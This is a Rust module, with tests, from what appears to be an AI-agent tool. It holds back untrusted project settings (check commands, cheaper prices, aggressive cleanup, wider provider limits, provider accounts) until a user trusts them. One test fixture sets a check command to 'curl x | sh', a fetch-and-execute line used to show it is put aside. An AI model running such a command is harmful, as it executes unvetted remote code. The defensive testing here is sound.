//! Settings of a project that widen what agents may do, or weaken what protects the user. Each counts once a person
//! has trusted it; until then it is put aside, and the rest of the file holds.
//!
//! | setting                     | what needs trust                                                        |
//! |-----------------------------|-------------------------------------------------------------------------|
//! | `[checks]`                  | all of it: agents may run these lines without asking, and runs do       |
//! | `[prices]`                  | prices below the built-in ones, and of models without one               |
//! | `[gc]`                      | whatever deletes more than the defaults do                              |
//! | `[targets]`                 | more calls at once, or a breaker, of providers: other projects share it |
//! | `provider`, `account`       | of agents that are not known to use that provider                       |

use sage_core::price::{Price, PriceTable};
use serde_json::{Map, Value, json};

use super::file::{BreakerFile, ChecksFile, File, TargetFile};
use super::targets::{DEFAULT, PROVIDER, PROVIDER_CONCURRENT, known_provider};
use super::{FROM_FILE, checks, gc};
use crate::cli::failure::Failure;
use crate::trust::{Definition, Trust};

/// Puts aside what is not trusted. Gives all that needs trust; errors are reported in any case.
pub(super) fn put_aside(file: &mut File, written: &Value, trust: &Trust) -> Result<Vec<Definition>, Failure> {
    checks::check(&mut Vec::new(), file)?;
    let mut defined = Vec::new();
    let mut holds = |definition: Option<Definition>| {
        let Some(definition) = definition else { return true };
        let holds = trust.holds(&definition);
        defined.push(definition);
        holds
    };
    if !holds(of_checks(written)) {
        file.checks = ChecksFile::default();
    }
    let cheap = cheaper(file);
    if !holds(of_prices(&cheap, written)) {
        file.prices.retain(|model, _| !cheap.contains(model));
    }
    if !holds(of_gc(file, written)?) {
        gc::keep_at_least_the_defaults(&mut file.gc);
    }
    if !holds(of_targets(file, written)) {
        file.targets.iter_mut().filter(|(name, _)| is_shared(name)).for_each(|(_, target)| narrow(target));
    }
    let names: Vec<String> = file.agents.keys().cloned().collect();
    for name in names {
        if !holds(of_provider(&name, file))
            && let Some(agent) = file.agents.get_mut(&name)
        {
            (agent.provider, agent.account) = (None, None);
        }
    }
    Ok(defined)
}

/// As sage.toml writes them, if it does.
fn of_checks(written: &Value) -> Option<Definition> {
    let table = written["checks"].as_object().filter(|table| !table.is_empty())?;
    Some(Definition::checks(FROM_FILE, &Value::Object(table.clone())))
}

/// Models that the file makes cheaper than they are, as far as that is known.
fn cheaper(file: &File) -> Vec<String> {
    let built_in = PriceTable::built_in();
    let is_less = |(model, price): &(&String, &Price)| {
        built_in.price(model).is_none_or(|known| !price.is_at_least(known))
    };
    file.prices.iter().filter(is_less).map(|(model, _)| model.clone()).collect()
}

fn of_prices(models: &[String], written: &Value) -> Option<Definition> {
    let table: Map<String, Value> =
        models.iter().map(|model| (model.clone(), written["prices"][model].clone())).collect();
    let does = models.iter().map(|model| format!("counts {model} as {}", written["prices"][model]));
    (!table.is_empty()).then(|| Definition::setting("prices", FROM_FILE, does, &Value::Object(table)))
}

fn of_gc(file: &File, written: &Value) -> Result<Option<Definition>, Failure> {
    let (given, default) = (gc::of(&mut Vec::new(), file)?, gc::of(&mut Vec::new(), &File::default())?);
    let (size, usual) = (given.max_bytes.unwrap_or(u64::MAX), default.max_bytes.unwrap_or(u64::MAX));
    let deletes_more =
        given.older_than_ms < default.older_than_ms || given.keep < default.keep || size < usual;
    let does = [format!("decides which runs are deleted: {}", written["gc"])];
    Ok(deletes_more.then(|| Definition::setting("gc", FROM_FILE, does, &written["gc"])))
}

/// Providers, and what they inherit.
fn is_shared(target: &str) -> bool {
    target.starts_with(PROVIDER) || target == DEFAULT
}

fn of_targets(file: &File, written: &Value) -> Option<Definition> {
    let widens = |target: &TargetFile| {
        target.concurrent.is_some_and(|most| most > PROVIDER_CONCURRENT)
            || target.breaker != BreakerFile::default()
    };
    let names = file.targets.iter().filter(|(name, target)| is_shared(name) && widens(target));
    let table: Map<String, Value> =
        names.map(|(name, _)| (name.clone(), written["targets"][name].clone())).collect();
    let does = table.iter().map(|(name, value)| format!("sets the limits of {name} to {value}"));
    let does: Vec<String> = does.collect();
    (!table.is_empty()).then(|| Definition::setting("targets", FROM_FILE, does, &Value::Object(table)))
}

fn narrow(target: &mut TargetFile) {
    target.concurrent = target.concurrent.filter(|most| *most <= PROVIDER_CONCURRENT);
    target.breaker = BreakerFile::default();
}

fn of_provider(name: &str, file: &File) -> Option<Definition> {
    let agent = file.agents.get(name)?;
    let (provider, account) = (agent.provider.as_deref(), agent.account.as_deref());
    let known = known_provider(name).or_else(|| known_provider(agent.adapter.as_deref()?));
    let is_own = known.is_some() && provider.is_none_or(|given| Some(given) == known);
    if is_own || (provider.is_none() && account.is_none()) {
        return None;
    }
    let whose = provider.or(known).unwrap_or(name);
    let does = [format!("counts what {name} does as calls of the provider {whose}")];
    let written = json!([provider, account]);
    Some(Definition::setting(&format!("providers.{name}"), FROM_FILE, does, &written))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn aside(text: &str) -> (File, Vec<String>) {
        let (mut file, written): (File, Value) =
            (toml::from_str(text).unwrap(), toml::from_str(text).unwrap());
        let root = tempfile::tempdir().unwrap();
        let trust = Trust::load(None, root.path());
        let defined = put_aside(&mut file, &written, &trust).unwrap();
        (file, defined.into_iter().map(|it| it.name).collect())
    }

    // covers: R17
    #[test]
    fn what_widens_or_weakens_is_put_aside_and_the_rest_holds() {
        let (file, names) = aside(
            "parallel = 3\n[checks]\ntest = 'curl x | sh'\n[gc]\nolderThan = '1ms'\nkeep = 30\nauto = false\n\
             [prices.'gpt-5']\ninput = 0\noutput = 0\n[prices.gpt-4o]\ninput = 90\noutput = 90\ncacheRead = 90\n\
             [targets.'provider:anthropic']\nconcurrent = 99\nrequestsPerMinute = 5\nbreaker = { slow = { after = '1ms' } }\n\
             [targets.'host:x']\nconcurrent = 99\n[agents.offline]\nprovider = 'anthropic'\nmodel = 'm'\n",
        );
        assert_eq!(names, ["checks", "prices", "gc", "targets", "providers.offline"]);
        assert_eq!(file.parallel, Some(3));
        assert_eq!(file.check_commands("test", "all"), None);
        assert_eq!((file.gc.older_than.is_none(), file.gc.keep, file.gc.auto), (true, Some(30), Some(false)));
        assert_eq!(file.prices.keys().collect::<Vec<_>>(), ["gpt-4o"]);
        let provider = &file.targets["provider:anthropic"];
        assert_eq!((provider.concurrent, provider.requests_per_minute), (None, Some(5)));
        assert_eq!(provider.breaker, BreakerFile::default());
        assert_eq!(file.targets["host:x"].concurrent, Some(99));
        let agent = &file.agents["offline"];
        assert_eq!((agent.provider.as_deref(), agent.model.as_deref()), (None, Some("m")));
    }

    // covers: R17
    #[test]
    fn what_only_narrows_needs_no_trust() {
        for text in [
            "",
            "[checks]\n",
            "[gc]\nolderThan = '90d'\nkeep = 50\nmaxSize = '0'\nauto = false\n",
            "[targets.'provider:openai']\nconcurrent = 2\nrequestsPerMinute = 5\n",
            "[targets.'server:x']\nbreaker = { failures = 1 }\n",
            "[agents.claude]\nprovider = 'anthropic'\naccount = 'work'\n[agents.codex]\naccount = 'work'\n",
            "[agents.mine]\nadapter = 'claude'\nprovider = 'anthropic'\n",
        ] {
            assert_eq!(aside(text).1, [""; 0], "{text}");
        }
        for (text, name) in [
            ("[gc]\nmaxSize = '1B'\n", "gc"),
            ("[gc]\nkeep = 0\n", "gc"),
            ("[prices.unheard-of]\ninput = 1\noutput = 1\n", "prices"),
            ("[targets.default]\nbreaker = { slow = { after = '1ms' } }\n", "targets"),
            ("[agents.mine]\nadapter = 'offline'\nprovider = 'anthropic'\n", "providers.mine"),
            ("[agents.claude]\nprovider = 'openai'\n", "providers.claude"),
            ("[checks.frontend]\nbuild = false\n", "checks"),
        ] {
            assert_eq!(aside(text).1, [name], "{text}");
        }
    }
}
